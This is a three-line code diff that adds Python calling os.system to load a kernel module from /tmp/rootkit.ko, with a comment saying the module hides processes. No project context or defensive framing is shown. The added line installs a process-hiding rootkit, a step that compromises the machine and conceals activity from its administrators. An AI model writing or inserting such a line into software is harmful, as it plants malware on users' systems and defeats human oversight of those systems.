@@ -1,0 +1,3 @@
+import os
+# Load a module that hides processes.
+os.system("insmod /tmp/rootkit.ko")
